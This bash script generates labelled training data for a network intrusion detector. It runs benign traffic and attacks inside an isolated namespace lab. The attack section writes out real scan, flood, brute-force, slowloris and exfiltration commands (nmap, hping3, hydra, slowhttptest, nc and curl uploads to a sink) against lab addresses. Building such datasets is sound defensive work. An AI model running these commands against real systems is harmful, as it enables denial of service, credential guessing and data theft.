#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-2.0-only
# Makes the model's training data: benign and attack traffic from real
# Debian tools in a network-namespace lab, the running agent writing one
# feature row per flow (detection.feature_log), and every row labelled from
# this script's own schedule (which address did what, when).
#
#   tools/train/lab_traffic.sh [--quick] [--seed N] [--out FILE.csv.gz]
#
# Topology (tools/lab.sh; addresses from 198.18.0.0/15 only, nothing leaves
# the namespaces this script creates, all removed on exit):
#
#   hosts b1..b5 (benign clients), atk (attacker, a new address every run),
#   mirror (a benign outside server), sink (the exfiltration receiver, a new
#   address every run), all on a bridge in the lab's external namespace:
#   a switch segment in front of the node's uplink (198.18.0.0/24).
#   pods behind the node (the agent's tc_endpoint on each veth):
#     web  198.18.1.10  HTTP :80 (pages, /big, /upload), login :8080 (basic auth)
#     dns  198.18.1.11  dnsmasq
#     bulk 198.18.1.12  iperf3 :5201-5204
#     app  198.18.1.13  a workload that talks to the world (and exfiltrates)
#     auth 198.18.1.14  POP3 :110 (a login service)
#
# Benign, all the time, with random parameters and gaps: iperf3 bulk both
# ways, wrk (keep-alive, high request rates), ab (a new connection per
# request, high rates), bursts of dig against dnsmasq, many short curl
# connections, long idle keep-alives, legitimate logins, and the app pod's
# downloads, uploads and backups to the mirror.
# Attacks, one after another, randomized rates and timings, each from a
# fresh address: scan (nmap -sS/-sT/-sU, masscan, nping), flood (hping3 and
# nping: SYN, UDP, ICMP), brute force (hydra and a Python client, HTTP
# basic auth and POP3), slow connections (slowhttptest slowloris / slow
# read / slow body, a Python slowloris), exfiltration from the app pod
# (curl uploads, nc, a DNS tunnel).
#
# The result (tools/train/data/lab.csv.gz by default): features, label,
# tool, run per row (tools/train/label.py), and the schedule beside it
# (lab.schedule.tsv). Rates and sizes are drawn anew every time; --seed
# fixes the order of the attack plan and the sampling of rows. --quick
# runs each attack variant once (about 8 minutes instead of 25). Needs
# root and `make deps`.
set -uo pipefail
ROOT=${ZT_ROOT:-$(cd "$(dirname "$0")/../.." && pwd)}
cd "$ROOT"
OUT=$ROOT/tools/train/data/lab.csv.gz
QUICK=0
SEED=$(date +%s)
while [ $# -gt 0 ]; do
	case $1 in
	--quick) QUICK=1 ;;
	--seed) SEED=$2; shift ;;
	--out) OUT=$2; shift ;;
	-h | --help) sed -n '3,41p' "$0" | sed 's/^# \{0,1\}//'; exit 0 ;;
	*) echo "lab_traffic: unknown argument $1 (see --help)" >&2; exit 2 ;;
	esac
	shift
done
for t in nmap nping masscan hping3 slowhttptest hydra wrk ab dig dnsmasq iperf3 curl nc; do
	command -v "$t" >/dev/null || { echo "lab_traffic: $t is missing: run 'make deps'" >&2; exit 1; }
done
for f in build/ztagent build/ztctl; do
	[ -x "$f" ] || { echo "lab_traffic: $f is missing: run 'make'" >&2; exit 1; }
done
PY=/usr/bin/python3
LABPY=$ROOT/tools/train/lab

. "$ROOT/tools/lab.sh"
lab_init train
LAB_POLICY_DEFAULT=allow
lab_write_config
FEATURES=$LAB_DIR/features.csv
SCHED=$LAB_DIR/schedule.tsv
STOP=$LAB_DIR/stop
: >"$SCHED"
# The agent detects and alerts but blocks nothing: a blocked attacker's
# packets die in XDP before they make a flow, so with blocking on an attack
# run leaves a handful of rows (brute force and slow connections all but
# vanish, their clients run into the run's timeout) and the dataset learns
# only how attacks start. The in-kernel rate limits stay as configured.
cat >>"$LAB_CONF" <<EOF
detection:
  feature_log: $FEATURES
response:
  mode: alert
EOF

WEB=198.18.1.10 DNS=198.18.1.11 BULK=198.18.1.12 APP=198.18.1.13 AUTH=198.18.1.14
MIRROR=198.18.0.20
log() { echo "lab_traffic: $*" >&2; }
now_us() { date +%s%6N; }
rnd() { echo $(($1 + RANDOM % ($2 - $1 + 1))); }
pick() { local a=("$@"); echo "${a[RANDOM % ${#a[@]}]}"; }
# sched RUN LABEL TOOL SRC DST START_US: one line of the schedule, ending now.
sched() { printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$1" "$2" "$3" "$4" "$5" "$6" "$(now_us)" >>"$SCHED"; }

for p in web:$WEB dns:$DNS bulk:$BULK app:$APP auth:$AUTH; do
	lab_pod "${p%%:*}" "${p#*:}"
done
lab_agent_start || exit 1
for p in web:$WEB dns:$DNS bulk:$BULK app:$APP auth:$AUTH; do
	ztctl endpoint add --ifname "v-${p%%:*}" --ip "${p#*:}" --labels "app=${p%%:*}" \
		--namespace lab --name "${p%%:*}" >/dev/null || exit 1
done

# The switch: ext0 and every host's veth on one bridge in the external namespace.
in_ext ip addr flush dev ext0
in_ext ip link add br0 type bridge
in_ext ip link set ext0 master br0
in_ext ip addr add "$LAB_EXT_IP/24" dev br0
in_ext ip link set br0 up
host_add() { # NAME IP
	local ns="${LAB_ID}-h-$1"
	ip netns add "$ns"
	LAB_PODS+=("$ns") # lab_cleanup removes it and what runs in it
	ip link add eth0 netns "$ns" type veth peer name "h-$1" netns "$LAB_EXT"
	in_ext ip link set "h-$1" master br0
	in_ext ip link set "h-$1" up
	ip -n "$ns" link set lo up
	ip -n "$ns" link set eth0 up
	ip -n "$ns" addr add "$2/24" dev eth0
	ip -n "$ns" route add default via "$LAB_NODE_IP"
}
host_readdress() { # NAME IP
	local ns="${LAB_ID}-h-$1"
	ip -n "$ns" addr flush dev eth0
	ip -n "$ns" addr add "$2/24" dev eth0
	ip -n "$ns" route replace default via "$LAB_NODE_IP"
}
in_host() { local h=$1; shift; ip netns exec "${LAB_ID}-h-$h" "$@"; }
for i in 1 2 3 4 5; do host_add "b$i" "198.18.0.1$i"; done
host_add mirror $MIRROR
host_add atk 198.18.0.100
host_add sink 198.18.0.99
NODE_MAC=$(ip -n "$LAB_NODE" -o link show uplink0 | sed -n 's/.*link\/ether \([0-9a-f:]*\).*/\1/p')

# Services.
exec 3>&2 2>"$LAB_DIR/services.log" # the services' chatter, not the operator's
lab_bg_in "${LAB_ID}-web" "$PY" "$LABPY/servers.py" web $WEB
lab_bg_in "${LAB_ID}-auth" "$PY" "$LABPY/servers.py" pop3 $AUTH
lab_bg_in "${LAB_ID}-dns" dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts \
	--listen-address=$DNS --bind-interfaces --address=/lab.test/$WEB \
	--pid-file="$LAB_DIR/dnsmasq.pid" --user=root --group=root --cache-size=1000
for port in 5201 5202 5203 5204; do
	lab_bg_in "${LAB_ID}-bulk" iperf3 -s -B $BULK -p $port --logfile "$LAB_DIR/iperf3-$port.log"
done
lab_bg_in "${LAB_ID}-h-mirror" "$PY" "$LABPY/servers.py" sink
lab_bg_in "${LAB_ID}-h-sink" "$PY" "$LABPY/servers.py" sink
exec 2>&3 3>&-
up() { # WHAT COMMAND...: waits up to 15 s for COMMAND to succeed
	local what=$1
	shift
	for _ in $(seq 1 150); do
		"$@" >/dev/null 2>&1 && return 0
		sleep 0.1
	done
	log "$what does not answer"
	exit 1
}
up "the web pod" in_host b1 curl -sf -o /dev/null -m 1 "http://$WEB/"
up "the login service" in_host b1 curl -s -o /dev/null -m 1 "http://$WEB:8080/login"
up "the POP3 pod" in_host b1 nc -z -w1 $AUTH 110
up "dnsmasq" sh -c "ip netns exec ${LAB_ID}-h-b1 dig +short +tries=1 +time=1 @$DNS www.lab.test | grep -q $WEB"
up "the mirror" in_pod app curl -sf -o /dev/null -m 1 "http://$MIRROR/"
up "iperf3" in_host b1 nc -z -w1 $BULK 5204
log "lab up: $LAB_DIR, seed $SEED"

# The dictionary for brute force: guesses, never the password.
for i in $(seq 1 600); do echo "pw$i$RANDOM"; done >"$LAB_DIR/words.txt"
# Names for dig bursts: some exist (lab.test), most do not.
names() { for _ in $(seq 1 "$1"); do echo "$(pick www api cdn img mail db x$RANDOM).$(pick lab.test lab.test example.test)"; done; }

# ---- benign ----

benign_loop() { # HOST SEED
	local h=$1 n=0 src t0 tool
	RANDOM=$2
	src=$(ip -n "${LAB_ID}-h-$h" -o -4 addr show dev eth0 | awk '{print $4}' | cut -d/ -f1)
	while [ ! -e "$STOP" ]; do
		n=$((n + 1))
		t0=$(now_us)
		case $(rnd 0 8) in
		0 | 1)
			tool=iperf3
			in_host "$h" timeout 30 iperf3 -c $BULK -p "$(rnd 5201 5204)" -t "$(rnd 2 8)" \
				-P "$(rnd 1 4)" -b "$(rnd 100 800)M" $(pick "" "" -R) >/dev/null 2>&1
			;;
		2)
			tool=wrk
			in_host "$h" wrk -t1 -c "$(rnd 4 40)" -d "$(rnd 2 6)s" "http://$WEB/$(pick '' '' 'big?n=30000')" >/dev/null 2>&1
			;;
		3)
			tool=ab
			in_host "$h" timeout 30 ab -q -n "$(rnd 300 2500)" -c "$(rnd 4 32)" $(pick "" "" -k) "http://$WEB/" >/dev/null 2>&1
			;;
		4)
			tool=dig
			names "$(rnd 40 300)" >"$LAB_DIR/names.$h"
			in_host "$h" dig @$DNS +tries=1 +time=1 -f "$LAB_DIR/names.$h" >/dev/null 2>&1
			;;
		5)
			tool=curl
			for _ in $(seq 1 "$(rnd 20 150)"); do
				in_host "$h" curl -s -o /dev/null -m 5 "http://$WEB/$(pick '' '' 'big?n=200000')"
			done
			;;
		6)
			tool=login
			in_host "$h" "$PY" "$LABPY/clients.py" login "$(pick http pop3)" \
				"$(pick $WEB $AUTH)" "$(rnd 2 8)" >/dev/null 2>&1
			;;
		7)
			tool=shorthttp
			in_host "$h" "$PY" "$LABPY/clients.py" shorthttp $WEB "$(rnd 50 400)" >/dev/null 2>&1
			;;
		8)
			tool=curl
			in_host "$h" curl -s -o /dev/null -m 20 "http://$WEB/big?n=$(rnd 1000000 30000000)"
			;;
		esac
		sched "$h-$n" benign "$tool" "$src" '*' "$t0"
		sleep "$(rnd 1 4)"
	done
}

# Long idle keep-alives: a few connections, a request every 15-40 s, minutes long.
idle_loop() { # HOST SEED
	local h=$1 n=0 t0
	RANDOM=$2
	while [ ! -e "$STOP" ]; do
		n=$((n + 1))
		t0=$(now_us)
		in_host "$h" "$PY" "$LABPY/clients.py" idle $WEB 80 "$(rnd 2 8)" "$(rnd 60 120)" >/dev/null 2>&1
		sched "$h-idle$n" benign idle-keepalive "198.18.0.15" '*' "$t0"
	done
}

# The app pod's own traffic: downloads, small uploads, backups, DNS.
app_loop() { # SEED
	local n=0 t0 tool dst
	RANDOM=$1
	while [ ! -e "$STOP" ]; do
		n=$((n + 1))
		t0=$(now_us)
		dst=$MIRROR
		case $(rnd 0 4) in
		0)
			tool=curl-download
			in_pod app curl -s -o /dev/null -m 20 "http://$MIRROR/big?n=$(rnd 100000 20000000)"
			;;
		1)
			tool=curl-upload
			head -c "$(rnd 2000 300000)" /dev/urandom |
				in_pod app curl -s -o /dev/null -m 20 --data-binary @- "http://$MIRROR/upload"
			;;
		2)
			tool=backup
			head -c "$(rnd 1000000 8000000)" /dev/urandom |
				in_pod app curl -s -o /dev/null -m 30 --data-binary @- "http://$MIRROR/upload"
			;;
		*)
			tool=dig
			dst=$DNS
			names "$(rnd 5 60)" >"$LAB_DIR/names.app"
			in_pod app dig @$DNS +tries=1 +time=1 -f "$LAB_DIR/names.app" >/dev/null 2>&1
			;;
		esac
		sched "app-$n" benign "$tool" $APP "$dst" "$t0"
		sleep "$(rnd 2 6)"
	done
}

# ---- attacks ----

ATK_N=100
next_addr() { # ATK_IP: the next unused address for an attacker or a sink
	ATK_N=$((ATK_N + 1))
	[ $ATK_N -le 250 ] || { log "out of attacker addresses"; exit 1; }
	ATK_IP="198.18.0.$ATK_N"
}
targets() { # N: N distinct pod addresses, space-separated
	shuf -n "$1" -e $WEB $DNS $BULK $APP $AUTH | paste -sd' '
}
run_attack() { # KIND VARIANT
	local kind=$1 v=$2 src t0 tool dst='*' r
	next_addr
	src=$ATK_IP
	host_readdress atk "$src"
	sleep 0.2
	t0=$(now_us)
	case $v in
	nmap-sS | nmap-sT)
		tool=nmap
		in_host atk timeout 120 nmap "-${v#nmap-}" -Pn -n "$(pick -T3 -T4 -T4 -T5)" \
			--top-ports "$(rnd 100 1000)" $(targets "$(rnd 1 3)") >/dev/null 2>&1
		;;
	nmap-sU)
		tool=nmap
		in_host atk timeout 120 nmap -sU -Pn -n -T5 --max-retries 1 --top-ports "$(rnd 30 100)" \
			$(targets 1) >/dev/null 2>&1
		;;
	masscan)
		tool=masscan
		r=$(rnd 1 1500)
		in_host atk timeout 120 masscan --adapter eth0 --adapter-ip "$src" --router-mac "$NODE_MAC" \
			-p"$r-$((r + $(rnd 300 2500)))" --rate "$(rnd 300 3000)" --wait 2 \
			$(targets "$(rnd 1 4)") >/dev/null 2>&1
		;;
	nping-scan)
		tool=nping
		r=$(rnd 1 2000)
		in_host atk timeout 120 nping --tcp --flags syn -p "$r-$((r + $(rnd 200 800)))" \
			--rate "$(rnd 200 1500)" -c 1 -q $(targets "$(rnd 1 2)") >/dev/null 2>&1
		;;
	hping3-syn | hping3-udp | hping3-icmp)
		tool=hping3
		local mode=${v#hping3-} iv count
		iv=$(rnd 250 2000)
		count=$((1000000 * $(rnd 3 7) / iv))
		case $mode in
		syn) in_host atk timeout 30 hping3 -S -p "$(pick 80 80 8080 110)" -i "u$iv" -c "$count" -q "$(pick $WEB $AUTH)" >/dev/null 2>&1 ;;
		udp) in_host atk timeout 30 hping3 --udp -p "$(pick 53 5201 9999)" -i "u$iv" -c "$count" -q "$(pick $DNS $BULK)" >/dev/null 2>&1 ;;
		icmp) in_host atk timeout 30 hping3 --icmp -i "u$iv" -c "$count" -q $(targets 1) >/dev/null 2>&1 ;;
		esac
		;;
	nping-syn | nping-udp | nping-icmp)
		tool=nping
		local mode=${v#nping-} rate count
		rate=$(rnd 500 4000)
		count=$((rate * $(rnd 3 7)))
		case $mode in
		syn) in_host atk timeout 30 nping --tcp --flags syn -p "$(pick 80 80 8080 110)" --rate "$rate" -c "$count" -q "$(pick $WEB $AUTH)" >/dev/null 2>&1 ;;
		udp) in_host atk timeout 30 nping --udp -p "$(pick 53 5201 9999)" --rate "$rate" -c "$count" -q "$(pick $DNS $BULK)" >/dev/null 2>&1 ;;
		icmp) in_host atk timeout 30 nping --icmp --rate "$rate" -c "$count" -q $(targets 1) >/dev/null 2>&1 ;;
		esac
		;;
	hydra-http)
		tool=hydra
		head -n "$(rnd 100 500)" "$LAB_DIR/words.txt" >"$LAB_DIR/w.txt"
		(cd "$LAB_DIR" && in_host atk timeout 60 hydra -I -l "$(pick admin root user)" -P w.txt \
			-t "$(rnd 2 16)" -s 8080 $WEB http-get /login >/dev/null 2>&1)
		;;
	hydra-pop3)
		tool=hydra
		head -n "$(rnd 100 400)" "$LAB_DIR/words.txt" >"$LAB_DIR/w.txt"
		(cd "$LAB_DIR" && in_host atk timeout 60 hydra -I -l "$(pick admin root user)" -P w.txt \
			-t "$(rnd 2 16)" $AUTH pop3 >/dev/null 2>&1)
		;;
	pybrute-http | pybrute-pop3)
		tool=pybrute
		if [ "$v" = pybrute-http ]; then r=$WEB; else r=$AUTH; fi
		in_host atk timeout 60 "$PY" "$LABPY/clients.py" brute "${v#pybrute-}" \
			"$r" "$(rnd 60 300)" "0.$(rnd 0 3)" >/dev/null 2>&1
		;;
	slowhttptest-H)
		tool=slowhttptest
		in_host atk timeout 60 slowhttptest -H -c "$(rnd 100 300)" -i "$(rnd 5 12)" -r "$(rnd 50 200)" \
			-l "$(rnd 15 30)" -u "http://$WEB/" -p 3 >/dev/null 2>&1
		;;
	slowhttptest-X)
		tool=slowhttptest
		in_host atk timeout 60 slowhttptest -X -c "$(rnd 100 300)" -r "$(rnd 50 200)" -w 10 -y 20 \
			-n "$(rnd 3 8)" -z 32 -l "$(rnd 15 30)" -u "http://$WEB/big?n=5000000" -p 3 >/dev/null 2>&1
		;;
	slowhttptest-B)
		tool=slowhttptest
		in_host atk timeout 60 slowhttptest -B -c "$(rnd 100 300)" -i "$(rnd 5 12)" -r "$(rnd 50 200)" \
			-s 8192 -t POST -l "$(rnd 15 30)" -u "http://$WEB/upload" -p 3 >/dev/null 2>&1
		;;
	pyslowloris)
		tool=pyslowloris
		in_host atk timeout 60 "$PY" "$LABPY/clients.py" slowloris $WEB "$(rnd 80 250)" "$(rnd 15 30)" >/dev/null 2>&1
		;;
	exfil-curl | exfil-nc | exfil-dnstunnel)
		# From the app pod to a sink with a fresh address: the run is (app, sink).
		dst=$src
		host_readdress sink "$dst"
		host_readdress atk 198.18.0.100 # idle during this run
		src=$APP
		sleep 0.2
		t0=$(now_us)
		case $v in
		exfil-curl)
			tool=curl
			head -c "$(rnd 20 150)M" /dev/urandom |
				in_pod app curl -s -o /dev/null -m 60 --data-binary @- "http://$dst/upload"
			;;
		exfil-nc)
			tool=nc
			head -c "$(rnd 20 150)M" /dev/urandom | in_pod app timeout 60 nc -N "$dst" 9000
			;;
		exfil-dnstunnel)
			tool=dnstunnel
			in_pod app timeout 60 "$PY" "$LABPY/clients.py" dnstunnel "$dst" "$(rnd 300 1500)" \
				"$(rnd 50 300)" >/dev/null 2>&1
			;;
		esac
		;;
	*)
		log "unknown variant $v"
		exit 1
		;;
	esac
	r=$? # the tool's exit code: timeouts (124) are normal for floods and slow attacks
	sched "atk-$ATK_N-$v" "$kind" "$tool" "$src" "$dst" "$t0"
	log "$(printf '%-13s %-16s from %-13s %s, exit %d' "$kind" "$v" "$src" \
		"$(awk -v a="$t0" -v b="$(now_us)" 'BEGIN { printf "%5.1f s", (b - a) / 1e6 }')" "$r")"
}

# The attack plan: each variant a few times, in random order.
plan=()
add() { local k=$1 v=$2 n=$3; [ $QUICK = 1 ] && n=1; for _ in $(seq 1 "$n"); do plan+=("$k $v"); done; }
add scan nmap-sS 4; add scan nmap-sT 3; add scan nmap-sU 2; add scan masscan 4; add scan nping-scan 3
add flood hping3-syn 3; add flood hping3-udp 2; add flood hping3-icmp 2
add flood nping-syn 3; add flood nping-udp 2; add flood nping-icmp 2
add bruteforce hydra-http 3; add bruteforce hydra-pop3 2; add bruteforce pybrute-http 3; add bruteforce pybrute-pop3 2
add slowconn slowhttptest-H 3; add slowconn slowhttptest-X 2; add slowconn slowhttptest-B 2; add slowconn pyslowloris 3
add exfiltration exfil-curl 3; add exfiltration exfil-nc 3; add exfiltration exfil-dnstunnel 3
RANDOM=$SEED
mapfile -t plan < <(printf '%s\n' "${plan[@]}" | shuf --random-source=<(yes "$SEED"))
log "${#plan[@]} attack runs planned"

benign_pids=()
for i in 1 2 3 4; do
	benign_loop "b$i" $((SEED + i)) &
	benign_pids+=($!)
done
idle_loop b5 $((SEED + 5)) &
benign_pids+=($!)
app_loop $((SEED + 6)) &
benign_pids+=($!)
LAB_PIDS+=("${benign_pids[@]}")

sleep $([ $QUICK = 1 ] && echo 10 || echo 45) # benign only, first
for item in "${plan[@]}"; do
	run_attack $item
	sleep "$(rnd 3 8)"
done
sleep $([ $QUICK = 1 ] && echo 5 || echo 30) # benign only, last
touch "$STOP"
log "waiting for the benign loops to finish their current activity"
for p in "${benign_pids[@]}"; do wait "$p" 2>/dev/null; done
# Unanswered SYNs and UDP flows are exported after their 60 s idle timeout.
log "waiting 70 s for the last flows to be exported"
sleep 70
lab_agent_stop
rows=$(($(wc -l <"$FEATURES") - 1))
log "the agent wrote $rows feature rows"
mkdir -p "$(dirname "$OUT")"
cp "$SCHED" "${OUT%.csv.gz}.schedule.tsv"
"$PY" "$ROOT/tools/train/label.py" --features "$FEATURES" --schedule "$SCHED" --out "$OUT" --seed "$SEED"
